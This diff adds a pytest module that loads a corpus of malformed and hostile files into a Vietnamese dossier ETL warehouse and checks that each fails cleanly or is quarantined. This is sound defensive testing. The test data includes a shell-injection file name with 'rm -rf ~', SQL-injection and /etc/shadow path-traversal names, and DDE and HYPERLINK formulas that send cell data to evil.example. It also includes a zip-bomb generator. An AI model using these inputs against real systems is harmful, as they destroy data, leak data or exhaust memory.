@@ -1,0 +1,474 @@
+"""The bad-input corpus (tests/fixtures/bad/README.md): malformed and hostile files loaded in ONE run together with
+valid files. Each bad file gets a clear error naming it, or its bad rows are quarantined with a reason; the valid
+files load exactly as they do alone; the audit tables account for every file and every row.
+
+Cases marked xfail are defects found by the corpus (the desired behaviour is asserted; see the README)."""
+from __future__ import annotations
+
+import importlib.util
+import json
+import os
+import resource
+import shutil
+import subprocess
+import sys
+import unicodedata
+from dataclasses import dataclass
+from datetime import date
+from pathlib import Path
+
+import pytest
+
+from conftest import FIXTURES, fresh_warehouse, query
+from etl.config import REPO_ROOT
+from etl.pipeline import ingest
+
+BAD = FIXTURES / "bad"
+SMALL = FIXTURES / "small"
+VALID = ("don-vi-hanh-chinh.csv", "danh-muc-tthc.csv", "ho-so-hoang-cat-2024-01.json")
+NOT_CASES = ("README.md", "make_corpus.py")
+LOAD_DATE = date(2024, 4, 1)
+MAX_BAD_ROW_SHARE = "0.5"  # the valid dossier file has 3 bad rows of 13 on purpose
+MAX_RSS_BYTES = 1_500_000_000
+
+_spec = importlib.util.spec_from_file_location("make_corpus", BAD / "make_corpus.py")
+corpus_maker = importlib.util.module_from_spec(_spec)
+_spec.loader.exec_module(corpus_maker)
+SQL = corpus_maker.SQL
+
+
+def listing(case: int, rows: int = 3, **cells) -> str:
+    return corpus_maker.listing_csv([corpus_maker.listing_row(case, n, **cells) for n in range(1, rows + 1)])
+
+
+# made at test time (too big to commit, or names a checkout on Windows/macOS would not keep)
+HUGE_CELL_CSV = "o-10MB.csv"
+HUGE_CELL_JSON = "o-10MB.json"
+DEEP_JSON = "long-nhau-sau.json"
+BACKSLASH_NAME = "ho-so\\..\\..\\etc\\passwd.csv"  # a Windows path kept as a name: "\\" is no separator here
+HIDDEN_NAME = "..\\..\\etc\\shadow.csv"  # starts with "." : a hidden file, skipped by pipeline.expand
+SHELL_NAME = "$(reboot); rm -rf ~ `id` | tee.csv"
+NFD_NAME = unicodedata.normalize("NFD", "Hồ sơ Hoằng Cát tháng 3 (tổ hợp).csv")
+SQL_NAME = "x'; DROP TABLE audit.landed_file; --.csv"
+
+
+def make_generated(folder: Path) -> None:
+    big = "Nguyễn " * (10 * 1024 * 1024 // 9)  # ~10 MB of UTF-8 in one cell
+    (folder / HUGE_CELL_CSV).write_text(listing(50, 3).replace('"Trần Văn Bình"', f'"{big}"', 1), encoding="utf-8")
+    document = corpus_maker.payload([corpus_maker.dossier(51, n) for n in range(1, 4)]
+                                    + [corpus_maker.dossier(51, 4, TrichYeuHoSo=big, GhiChu=big)])
+    (folder / HUGE_CELL_JSON).write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
+    depth = 200_000
+    document = json.dumps(corpus_maker.payload([corpus_maker.dossier(52, 1, GhiChu=[])]))
+    (folder / DEEP_JSON).write_text(document.replace('"GhiChu": []', '"GhiChu": ' + "[" * depth + "]" * depth))
+    for case, name in ((53, BACKSLASH_NAME), (54, SHELL_NAME), (55, NFD_NAME), (56, SQL_NAME), (57, HIDDEN_NAME)):
+        (folder / name).write_text(listing(case, 2), encoding="utf-8")
+
+
+@dataclass(frozen=True)
+class Case:
+    error: str | None = None  # a fragment of the file-level error; None: the file loads
+    rows: tuple[int, int, int] | None = None  # rows read, loaded, quarantined
+    rules: dict | None = None  # quarantine rows per rule (one row per failing row and rule)
+    xfail: str | None = None  # a defect: the desired behaviour above is not what happens
+    ignored: bool = False  # not read, not landed, not recorded (a hidden file)
+
+
+NOT_RECOGNISED = "không nhận ra định dạng tệp"
+OVER_SHARE = "Tỷ lệ dòng bị cách ly vượt ngưỡng cho phép"
+DATES = "ngay_tiep_nhan_dinh_dang"
+
+CASES: dict[str, Case] = {
+    # --- JSON sync payloads
+    "json-cat-cut.json": Case("JSON không hợp lệ hoặc bị cắt cụt"),
+    "json-cat-giua-ky-tu.json": Case("bị cắt cụt", xfail=(
+        "dossier_json._load: a file cut inside a multi-byte UTF-8 character is reported as 'không phải UTF-8 "
+        "(byte 0x.. ở vị trí ..)' instead of as cut: the UTF-8 check runs before the JSON error is reported; an "
+        "incomplete sequence at the very end (UnicodeDecodeError.reason 'unexpected end of data') means truncated")),
+    "json-goc-la-mang.json": Case('không phải gói đồng bộ hồ sơ: thiếu mảng "data"'),
+    "json-data-khong-phai-mang.json": Case('không phải gói đồng bộ hồ sơ: thiếu mảng "data"'),
+    "json-phan-tu-khong-phai-object.json": Case(rows=(10, 6, 4), rules={
+        "ma_ho_so_bat_buoc": 4, "ma_tthc_bat_buoc": 4, "ma_don_vi_bat_buoc": 4, "trang_thai_bat_buoc": 4,
+        "ngay_tiep_nhan_bat_buoc": 4}),
+    "json-ma-la-so.json": Case(rows=(5, 4, 1), xfail=(
+        "dossier_json._record/_text: a MaHoSo sent as a JSON number (3527240306005: dots and leading zeros lost) is "
+        "loaded as the dossier code '3527240306005'; codes are text (docs/formats.md): quarantine a non-string "
+        "MaHoSo, or add a GX rule that ma_ho_so matches <mã đơn vị>-<YYMMDD>-<số>")),
+    "json-ngay-khong-co-that.json": Case(rows=(11, 6, 5), rules={
+        "ngay_nop_ho_so_dinh_dang": 1, DATES: 1, "ngay_hen_tra_dinh_dang": 1, "ngay_ket_thuc_xu_ly_dinh_dang": 1,
+        "ngay_tiep_nhan_trong_lich": 1, "ngay_hen_tra_trong_lich": 1}),
+    "json-phi-am.json": Case(rows=(5, 4, 1), xfail=(
+        "no rule rejects a negative fee: Gia = -50000 is loaded as fee_amount -50000 (has_fee false); add a GX rule "
+        "fee_amount >= 0 to expectations/dossier_rows.json")),
+    "json-phi-khong-lo.json": Case(rows=(5, 4, 1), xfail=(
+        "Gia = 1e30 overflows dw numeric(14,0): the COPY into stg_dossier fails and the whole file fails with the "
+        "English database message 'lỗi cơ sở dữ liệu: numeric field overflow …'; normalise_dossiers should flag "
+        "fees >= 10^14 (phi_le_phi_invalid) so the row is quarantined")),
+    "json-phi-chu.json": Case(rows=(5, 4, 1), rules={"phi_le_phi_la_so": 1}),
+    "json-khoa-trung-trong-object.json": Case(rows=(4, 3, 1), xfail=(
+        "a dossier object with the key TrangThaiHoSo twice (4, then 10) is loaded with the last value: orjson keeps "
+        "the last duplicate silently; detect duplicate keys (e.g. json.loads with object_pairs_hook on the records) "
+        "and quarantine the row")),
+    "json-ma-trung-trong-tep.json": Case(rows=(5, 4, 1), rules={"ma_ho_so_trung_trong_tep": 1}),
+    "json-lien-tep-1-cu.json": Case(rows=(2, 2, 0)),
+    "json-lien-tep-2-moi.json": Case(rows=(2, 2, 0)),
+    "json-sql-moi-truong.json": Case(rows=(4, 4, 0)),
+    "json-ky-tu-nul.json": Case(rows=(5, 4, 1), xfail=(
+        "a NUL character (\\u0000) in ChuHoSo reaches the COPY into stg_dossier: PostgreSQL refuses it and the whole "
+        "file fails with 'lỗi cơ sở dữ liệu: invalid byte sequence for encoding \"UTF8\": 0x00'; quarantine rows "
+        "with NUL/C0 control characters (or strip them in the readers' text conversion)")),
+    "json-ky-tu-dieu-khien.json": Case(rows=(5, 4, 1), xfail=(
+        "control characters (BEL, ESC '\\x1b[31m', RIGHT-TO-LEFT OVERRIDE) in ChuHoSo/TenTTHC are loaded as they are; "
+        "quarantine (or strip) C0 controls and bidi overrides in text fields")),
+    "json-utf16-be.json": Case("không phải UTF-8"),
+    "json-rong.json": Case("JSON không hợp lệ hoặc bị cắt cụt"),
+    "json-dich-vu-khac.json": Case("không được hỗ trợ"),
+    HUGE_CELL_JSON: Case(rows=(4, 4, 0)),
+    DEEP_JSON: Case("JSON không hợp lệ"),
+    # --- CSV dossier listings
+    "csv-cat-giua-ngoac.csv": Case(rows=(3, 2, 1), rules={"ngay_tiep_nhan_bat_buoc": 1, "trang_thai_bat_buoc": 1}),
+    "csv-ngoac-kep-khong-dong.csv": Case(rows=(5, 4, 1), rules={
+        "hen_tra_sau_tiep_nhan": 1, "kenh_thuc_hien_hop_le": 1, "ket_thuc_sau_tiep_nhan": 1,
+        "loai_doi_tuong_hop_le": 1, "ngay_tra_dinh_dang": 1, "phi_le_phi_la_so": 1, "trang_thai_bat_buoc": 1}),
+    "csv-thua-cot.csv": Case(rows=(5, 4, 1), rules={
+        "kenh_thuc_hien_hop_le": 1, "ngay_nop_ho_so_dinh_dang": 1, "phi_le_phi_la_so": 1, "trang_thai_hop_le": 1}),
+    "csv-thieu-cot-bat-buoc.csv": Case("dòng 5: thiếu cột bắt buộc: Trạng thái"),
+    "csv-tieu-de-trung.csv": Case("Mã hồ sơ", xfail=(
+        "spreadsheet.read_records: a header 'Mã hồ sơ' written twice is read from the first column, the second "
+        "silently goes to extra; a column of the layout found twice (folded) should fail the file naming it")),
+    "csv-tieu-de-sai-dong.csv": Case(NOT_RECOGNISED),
+    "csv-chi-co-tieu-de.csv": Case("Tệp không có dòng dữ liệu nào"),
+    "csv-rong.csv": Case(NOT_RECOGNISED),
+    "csv-tcvn3-mo-ho.csv": Case("không xác định được bảng mã của tệp: có thể là TCVN3 hoặc VNI"),
+    "csv-tron-bang-ma.csv": Case("dòng 8: tệp có dòng không phải UTF-8"),
+    "csv-byte-nul.csv": Case(rows=(5, 4, 1), xfail=(
+        "a NUL byte inside a CSV field passes csv.reader and reaches the COPY into stg_dossier: the whole file fails "
+        "with 'lỗi cơ sở dữ liệu: invalid byte sequence for encoding \"UTF8\": 0x00'; see json-ky-tu-nul.json")),
+    "csv-cong-thuc.csv": Case(rows=(6, 6, 0)),
+    "csv-ngay-khong-co-that.csv": Case(rows=(12, 7, 5), rules={
+        "ngay_nop_ho_so_dinh_dang": 3, DATES: 3, "ngay_tiep_nhan_trong_lich": 2, "hen_tra_sau_tiep_nhan": 1,
+        "ket_thuc_sau_tiep_nhan": 1}),
+    "csv-phi-am.csv": Case(rows=(5, 4, 1), xfail="see json-phi-am.json: '-50.000' is loaded as fee_amount -50000"),
+    "csv-phi-khong-lo.csv": Case(rows=(5, 4, 1), xfail=(
+        "see json-phi-khong-lo.json: '999.999.999.999.999.999.999' fails the whole file with 'numeric field overflow'")),
+    "csv-vuot-nguong-dong-loi.csv": Case(OVER_SHARE),
+    "csv-sql-moi-cot.csv": Case(rows=(3, 3, 0), xfail=(
+        "spreadsheet._delimiter picks the delimiter that gives the WIDEST line among the first 35: a data row whose "
+        "values contain ';' (here SQL text) makes ';' win, the header is split wrongly and the file is reported as "
+        "'không nhận ra định dạng tệp'; choose the delimiter from the header line (the line with the markers) or by "
+        "the most consistent width")),
+    HUGE_CELL_CSV: Case("field larger than field limit"),
+    BACKSLASH_NAME: Case(rows=(2, 2, 0)),
+    SHELL_NAME: Case(rows=(2, 2, 0)),
+    NFD_NAME: Case(rows=(2, 2, 0)),
+    SQL_NAME: Case(rows=(2, 2, 0)),
+    HIDDEN_NAME: Case(ignored=True),
+    # --- reference lists
+    "csv-don-vi-trung-ma.csv": Case(rows=(3, 2, 1), xfail=(
+        "apply_unit_versions.sql keeps the last row of an agency code listed twice with other content (DISTINCT ON) "
+        "and counts both rows as loaded; quarantine all but one, as quarantine_duplicate_dossiers.sql does")),
+    "csv-don-vi-sql-cong-thuc.csv": Case(rows=(3, 3, 0)),
+    "csv-danh-muc-trung-ma.csv": Case(rows=(3, 2, 1), xfail=(
+        "apply_procedure_versions.sql: a Mã TTHC listed twice with conflicting content is loaded silently "
+        "(one row wins, both counted as loaded); quarantine the duplicates")),
+    "csv-danh-muc-sai-kieu.csv": Case(rows=(5, 3, 2), rules={"thoi_han_la_so": 1, "muc_do_dvctt_hop_le": 1}),
+    "csv-danh-muc-thoi-han-am.csv": Case(rows=(3, 2, 1), xfail=(
+        "no rule rejects a negative time limit: 'Thời hạn giải quyết (ngày)' = -1 is loaded; add a GX rule "
+        "thoi_han_ngay >= 0 to expectations/procedure_rows.json")),
+    # --- Excel
+    "xlsx-cat-cut.xlsx": Case("không đọc được tệp Excel"),
+    "xlsx-khong-phai-excel.xlsx": Case("không đọc được tệp Excel"),
+    "~$ho-so-thang-3.xlsx": Case("không đọc được tệp Excel"),
+    "xlsx-cong-thuc.xlsx": Case(rows=(6, 6, 0)),
+    "xlsx-ngay-khong-co-that.xlsx": Case(rows=(7, 4, 3), rules={
+        "ngay_nop_ho_so_dinh_dang": 1, DATES: 1, "ngay_tiep_nhan_trong_lich": 2, "hen_tra_sau_tiep_nhan": 1,
+        "ket_thuc_sau_tiep_nhan": 1}),
+    "xlsx-ma-la-so.xlsx": Case(rows=(4, 3, 1), xfail="see json-ma-la-so.json: a number cell 3527240344002 as Mã hồ sơ"),
+}
+
+
+@pytest.fixture(scope="module")
+def corpus(admin_url, tmp_path_factory):
+    """Every bad file and the three valid ones, in one folder, loaded in one run."""
+    inbox = tmp_path_factory.mktemp("inbox")
+    for path in BAD.iterdir():
+        if path.name not in NOT_CASES:
+            shutil.copy(path, inbox / path.name)
+    make_generated(inbox)
+    for name in VALID:
+        shutil.copy(SMALL / name, inbox / name)
+    with fresh_warehouse(admin_url, tmp_path_factory.mktemp("home")) as url, pytest.MonkeyPatch.context() as patch:
+        patch.setenv("CCHC_MAX_BAD_ROW_SHARE", MAX_BAD_ROW_SHARE)
+        summary = ingest([inbox], source="test", load_date=LOAD_DATE, progress=lambda _: None)
+        results = {f.file: f for f in summary.files}
+        yield url, inbox, summary, results
+
+
+def test_the_corpus_has_a_case_for_every_file_and_is_small():
+    committed = {p.name for p in BAD.iterdir() if p.name not in NOT_CASES}
+    generated = {HUGE_CELL_CSV, HUGE_CELL_JSON, DEEP_JSON, BACKSLASH_NAME, SHELL_NAME, NFD_NAME, SQL_NAME,
+                 HIDDEN_NAME}
+    assert committed | generated == set(CASES)
+    assert len(committed) >= 30
+    assert all((BAD / name).stat().st_size < 50_000 for name in committed)
+    readme = (BAD / "README.md").read_text(encoding="utf-8")
+    missing = [name for name in CASES if "`" + name.replace("|", "\\|") + "`" not in readme]
+    assert missing == []
+
+
+def _case_params():
+    for name, case in CASES.items():
+        marks = [pytest.mark.xfail(strict=True, reason=case.xfail)] if case.xfail else []
+        yield pytest.param(name, case, marks=marks, id=name)
+
+
+@pytest.mark.parametrize("name, case", _case_params())
+def test_each_bad_file_has_its_expected_outcome(corpus, name, case):
+    url, _, _, results = corpus
+    if case.ignored:
+        assert name not in results
+        assert query(url, "SELECT count(*) FROM audit.landed_file WHERE original_name = %s", (name,)) == [(0,)]
+        return
+    result = results[name]
+    [(load_id, status, error)] = query(url, "SELECT l.load_id, l.status, l.error FROM audit.file_load l "
+                                            "JOIN audit.landed_file f USING (file_id) WHERE f.original_name = %s",
+                                       (name,))
+    quarantined = dict(query(url, "SELECT rule, count(*) FROM audit.quarantine WHERE load_id = %s GROUP BY rule",
+                             (load_id,)))
+    if case.error:
+        assert (result.status, status) == ("failed", "failed"), result
+        assert case.error in result.error and result.error == error
+        assert error.startswith(f"tệp {name}")
+        assert quarantined == {}
+        assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE %s IN (first_load_id, last_load_id)",
+                     (load_id,)) == [(0,)]
+    else:
+        assert (result.status, status, result.error) == ("loaded", "loaded", None), result.error
+        assert (result.rows_read, result.rows_loaded, result.rows_quarantined) == case.rows
+        if case.rules is not None:
+            assert quarantined == case.rules
+        else:
+            assert sum(quarantined.values()) >= case.rows[2]
+
+
+def test_valid_files_load_exactly_as_they_do_alone(corpus):
+    url, _, _, results = corpus
+    units, catalogue, dossiers = (results[name] for name in VALID)
+    assert (units.status, units.rows_read, units.rows_loaded, units.rows_inserted) == ("loaded", 4, 4, 4)
+    assert (catalogue.status, catalogue.rows_read, catalogue.rows_loaded, catalogue.rows_inserted) == ("loaded", 3, 3, 3)
+    assert (dossiers.status, dossiers.rows_read, dossiers.rows_loaded, dossiers.rows_quarantined,
+            dossiers.rows_inserted, dossiers.rows_updated) == ("loaded", 13, 10, 3, 10, 0)
+    assert dossiers.inferred == {"unit": 1, "procedure": 1, "dossiers_with_inferred_unit": 1,
+                                 "dossiers_with_inferred_procedure": 1}
+    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE ma_ho_so LIKE '000.35.27.H56-240108-%%'") == [(10,)]
+    assert query(url, "SELECT q.row_no, q.rule FROM audit.quarantine q WHERE q.load_id = %s ORDER BY 1",
+                 (dossiers.load_id,)) == [(1, "ma_ho_so_trung_trong_tep"), (9, "ngay_tiep_nhan_bat_buoc"),
+                                          (10, "ngay_hen_tra_dinh_dang")]
+    assert query(url, "SELECT c.gso_code, p.gso_code FROM dw.dim_unit c LEFT JOIN dw.dim_unit p "
+                      "ON p.unit_key = c.parent_unit_key WHERE c.unit_code IN "
+                      "('000.00.00.H56', '000.00.27.H56', '000.35.27.H56', '000.31.27.H56') ORDER BY 1") == [
+        ("15895", "399"), ("15907", "399"), ("38", None), ("399", "38")]
+
+
+def test_the_audit_accounts_for_every_file_and_row(corpus):
+    url, inbox, summary, _ = corpus
+    load_ids = [f.load_id for f in summary.files]
+    visible = sorted(p.name for p in inbox.iterdir() if not p.name.startswith("."))  # pipeline.expand skips the others
+    assert len(summary.files) == len(visible) == len(CASES) + len(VALID) - 1
+    assert sorted(r[0] for r in query(url, "SELECT original_name FROM audit.landed_file")) == visible
+    loads = query(url, """
+        SELECT f.original_name, l.status, l.rows_read, l.rows_loaded, l.rows_quarantined, l.error,
+               (SELECT count(DISTINCT q.row_no) FROM audit.quarantine q WHERE q.load_id = l.load_id),
+               (SELECT count(*) FROM audit.quarantine q WHERE q.load_id = l.load_id)
+        FROM audit.file_load l JOIN audit.landed_file f USING (file_id) WHERE l.load_id = ANY(%s)""", (load_ids,))
+    assert len(loads) == len(summary.files)
+    for name, status, read, loaded, quarantined, error, rows_in_quarantine, quarantine_rows in loads:
+        if status == "loaded":
+            assert read == loaded + quarantined, name
+            # audit.quarantine holds one row per (failing row, rule): count the rows, not the reasons
+            assert rows_in_quarantine == quarantined, name
+            assert quarantine_rows >= quarantined and error is None, name
+        else:
+            assert status == "failed" and quarantine_rows == 0, name
+            assert error.startswith(f"tệp {name}") and "Traceback" not in error, error
+
+
+def test_stored_paths_are_inside_the_landing_zone_under_its_own_names(corpus):
+    url, _, _, _ = corpus
+    landing = (Path(os.environ["CCHC_HOME"]) / "landing").resolve()
+    rows = query(url, "SELECT original_name, stored_path, sha256 FROM audit.landed_file")
+    for original, stored, sha in rows:
+        path = Path(stored)
+        assert path.resolve().parent == landing / "test", stored
+        assert path.name.startswith(sha[:16] + "__") and unicodedata.is_normalized("NFC", path.name)
+        assert not set(path.name) & set("\\/$`|;' ~"), path.name
+        assert path.is_file() and len(path.name.encode()) <= 255
+    assert query(url, "SELECT count(*) FROM audit.landed_file WHERE original_name = %s", (NFD_NAME,)) == [(1,)]
+
+
+def test_sql_looking_text_is_stored_literally_and_tables_survive(corpus):
+    url, _, _, _ = corpus
+    code = corpus_maker.code(14, 4)
+    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE ma_ho_so = %s", (SQL,)) == [(1,)]
+    assert query(url, "SELECT u.unit_code, u.name, p.ma_tthc, p.ten_tthc, a.chu_ho_so, a.email FROM dw.fact_dossier f "
+                      "JOIN dw.dim_unit u USING (unit_key) JOIN dw.dim_procedure p USING (procedure_key) "
+                      "JOIN restricted.applicant a USING (ma_ho_so) WHERE f.ma_ho_so = %s", (SQL,)) == [
+        (SQL, SQL, SQL, SQL, SQL, SQL)]
+    assert query(url, "SELECT extra FROM raw.dossier_extra WHERE ma_ho_so = %s", (SQL,)) == [({"GhiChu": SQL},)]
+    assert query(url, "SELECT name, is_inferred FROM dw.dim_unit WHERE unit_code = %s", (SQL,)) == [(SQL, False)]  # csv-don-vi-sql-cong-thuc.csv
+    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE ma_ho_so LIKE %s", (code[:-4] + "%",)) == [(3,)]
+    assert query(url, "SELECT count(*) FROM dw.dim_unit WHERE name = %s AND NOT is_inferred", (SQL,)) == [(1,)]
+    assert query(url, "SELECT error FROM audit.file_load l JOIN audit.landed_file f USING (file_id) "
+                      "WHERE original_name = 'json-dich-vu-khac.json'")[0][0].count("DELETE FROM audit.file_load") == 1
+    for table in ("dw.fact_dossier", "dw.dim_unit", "audit.file_load", "audit.landed_file"):
+        assert query(url, "SELECT to_regclass(%s) IS NOT NULL", (table,)) == [(True,)]
+
+
+def test_formulas_are_stored_as_inert_text_never_evaluated(corpus):
+    url, _, _, _ = corpus
+    formulas = ['=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")', "=1+1", "=cmd|' /C calc'!A0",
+                "+SUM(1;2)", "@SUM(A1)", "-2+3"]
+    csv_codes = [corpus_maker.code(28, n) for n in range(1, 7)]
+    assert query(url, "SELECT a.chu_ho_so, u.name FROM restricted.applicant a JOIN dw.fact_dossier f USING (ma_ho_so) "
+                      "JOIN dw.dim_unit u USING (unit_key) WHERE a.ma_ho_so = ANY(%s) ORDER BY a.ma_ho_so",
+                 (csv_codes,)) == [(f, f) for f in formulas]
+    # .xlsx: real formula cells are read as their cached value (none: openpyxl wrote no result) -> empty,
+    # text cells that start with "=" keep their text
+    xlsx_codes = [corpus_maker.code(42, n) for n in range(1, 7)]
+    assert query(url, "SELECT chu_ho_so FROM restricted.applicant WHERE ma_ho_so = ANY(%s) ORDER BY ma_ho_so",
+                 (xlsx_codes,)) == [(None,)] * 3 + [(f,) for f in formulas[:3]]
+    assert query(url, "SELECT name FROM dw.dim_unit WHERE unit_code = '000.91.27.H56'") == [
+        ('=HYPERLINK("http://evil.example","Xã")',)]
+
+
+def test_a_dossier_in_two_files_is_updated_by_the_later_one(corpus):
+    url, _, _, results = corpus
+    old, new = results["json-lien-tep-1-cu.json"], results["json-lien-tep-2-moi.json"]
+    assert (old.rows_inserted, old.rows_updated, new.rows_inserted, new.rows_updated) == (2, 0, 1, 1)
+    code = corpus_maker.code(13, 1)
+    assert query(url, "SELECT f.status_code, f.last_load_id = %s, f.first_load_id = %s FROM dw.fact_dossier f "
+                      "WHERE ma_ho_so = %s", (new.load_id, old.load_id, code)) == [(10, True, True)]
+    assert query(url, "SELECT h.status_code FROM dw.fact_dossier_status_history h JOIN dw.fact_dossier f "
+                      "USING (dossier_key) WHERE f.ma_ho_so = %s ORDER BY h.observed_at", (code,)) == [(4,), (10,)]
+
+
+def test_a_file_over_the_bad_row_share_leaves_nothing(corpus):
+    url, _, _, _ = corpus
+    codes = [corpus_maker.code(31, n) for n in range(1, 5)]
+    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE ma_ho_so = ANY(%s)", (codes,)) == [(0,)]
+    assert query(url, "SELECT count(*) FROM restricted.applicant WHERE ma_ho_so = ANY(%s)", (codes,)) == [(0,)]
+
+
+def test_huge_values_stay_within_memory(corpus):
+    url, _, _, results = corpus
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 < MAX_RSS_BYTES
+    assert "dòng 6" in results[HUGE_CELL_CSV].error
+
+
+def test_a_second_run_of_the_same_folder_changes_nothing(corpus):
+    url, inbox, first, _ = corpus
+    snapshot = """SELECT (SELECT count(*) FROM dw.fact_dossier), (SELECT max(updated_at) FROM dw.fact_dossier),
+                         (SELECT count(*) FROM dw.dim_unit), (SELECT count(*) FROM dw.dim_procedure),
+                         (SELECT count(*) FROM restricted.applicant), (SELECT count(*) FROM audit.quarantine),
+                         (SELECT count(*) FROM audit.landed_file), (SELECT count(*) FROM dw.fact_dossier_status_history)"""
+    before = query(url, snapshot)
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("CCHC_MAX_BAD_ROW_SHARE", MAX_BAD_ROW_SHARE)
+        again = ingest([inbox], source="test", load_date=LOAD_DATE, progress=lambda _: None)
+    assert query(url, snapshot) == before
+    was = {f.file: f.status for f in first.files}
+    assert {f.file: f.status for f in again.files} == {
+        name: "skipped" if status == "loaded" else "failed" for name, status in was.items()}
+    assert {f.file: f.error for f in again.failed} == {f.file: f.error for f in first.failed}
+
+
+# --- files that would stop the shared run: each in its own warehouse -------------------------------------------
+
+@pytest.mark.xfail(strict=True, reason=(
+    "landing.safe_name cuts a name to 120 CHARACTERS, not bytes: a Vietnamese name of 80 letters (240 bytes, valid on "
+    "disk) becomes '<sha16>__<name>.partial' of 270 bytes > 255 and shutil.copyfile in landing.land raises "
+    "OSError 'File name too long', which escapes ingest and stops every other file; cut by UTF-8 bytes (e.g. 200)"))
+def test_a_very_long_vietnamese_file_name_is_landed_under_a_shorter_name(warehouse, tmp_path):
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    long_name = "ờ" * 80 + ".csv"
+    (inbox / long_name).write_text(listing(58, 2), encoding="utf-8")
+    (inbox / "binh-thuong.csv").write_text(listing(59, 2), encoding="utf-8")
+    results = {f.file: f for f in ingest([inbox], source="test", load_date=LOAD_DATE, progress=lambda _: None).files}
+    assert results[long_name].status == results["binh-thuong.csv"].status == "loaded"
+    [(stored,)] = query(warehouse, "SELECT stored_path FROM audit.landed_file WHERE original_name = %s", (long_name,))
+    assert len(Path(stored).name.encode()) <= 255
+
+
+BOMB_SCRIPT = """
+import resource, sys
+from datetime import date
+from etl.pipeline import ingest
+summary = ingest([sys.argv[1]], source="test", load_date=date(2024, 4, 1), progress=lambda _: None)
+print({f.file: [f.status, f.error] for f in summary.files})
+print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024)
+"""
+
+
+def zip_bomb(path: Path, megabytes: int) -> None:
+    """An .xlsx of < 2 MB whose sheet XML is ``megabytes`` MB: the listing header, then millions of one-cell rows."""
+    import zipfile
+
+    ns = 'xmlns="http://schemas.openxmlformats.org/package/2006/'
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    parts = {
+        "[Content_Types].xml": f'<Types {ns}content-types"><Default Extension="rels" ContentType="application/'
+                               'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
+                               'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
+                               '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
+                               '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
+                               'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
+        "_rels/.rels": f'<Relationships {ns}relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" '
+                       'Target="xl/workbook.xml"/></Relationships>',
+        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets><sheet name="S" sheetId="1" '
+                           'r:id="rId1"/></sheets></workbook>',
+        "xl/_rels/workbook.xml.rels": f'<Relationships {ns}relationships"><Relationship Id="rId1" '
+                                      f'Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
+    }
+
+    def cell(value: str) -> str:
+        return f'<c t="inlineStr"><is><t>{value}</t></is></c>'
+
+    head = (f'<worksheet xmlns="{main}"><sheetData><row>'
+            + "".join(cell(h) for h in corpus_maker.LISTING_HEADER) + "</row>").encode()
+    block = ("<row>" + cell("x") + "</row>").encode() * 20_000
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
+        for name, text in parts.items():
+            book.writestr(name, text)
+        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
+            sheet.write(head)
+            for _ in range(megabytes * 1_000_000 // len(block)):
+                sheet.write(block)
+            sheet.write(b"</sheetData></worksheet>")
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "no defence against a zip bomb: spreadsheet._workbook_sheet (CalamineWorkbook.get_sheet_by_index) decompresses "
+    "and materialises the whole sheet (300 MB of XML -> ~1 GB resident, measured), twice (registry.detect via _head, "
+    "then read_records); with 500 MB under RLIMIT_AS 4 GB the child aborts (SIGABRT, Rust allocation failure), "
+    "taking every other file of the run with it. Check the zip entries' "
+    "uncompressed sizes / ratio (zipfile.ZipFile.infolist) before opening and reject with a message"))
+def test_a_zip_bomb_is_rejected_before_exhausting_memory(warehouse, tmp_path):
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    zip_bomb(inbox / "bom-nen.xlsx", 500)
+    assert (inbox / "bom-nen.xlsx").stat().st_size < 2_000_000
+    (inbox / "binh-thuong.csv").write_text(listing(60, 2), encoding="utf-8")
+
+    def limit():  # a defect must not take the machine down: the child fails at 4 GB instead
+        resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))
+
+    done = subprocess.run([sys.executable, "-c", BOMB_SCRIPT, str(inbox)], capture_output=True, text=True,
+                          timeout=120, cwd=REPO_ROOT, preexec_fn=limit, env={**os.environ, "PYTHONPATH": str(REPO_ROOT)})
+    assert done.returncode == 0, done.stderr[-2000:]
+    outcome, peak = done.stdout.strip().splitlines()[-2:]
+    outcome = eval(outcome)  # noqa: S307 (our own child's repr of a dict of lists of str)
+    assert outcome["binh-thuong.csv"] == ["loaded", None]
+    assert outcome["bom-nen.xlsx"][0] == "failed" and "bom-nen.xlsx" in outcome["bom-nen.xlsx"][1]
+    assert int(peak) < MAX_RSS_BYTES, f"peak RSS {int(peak) / 1e9:.2f} GB"
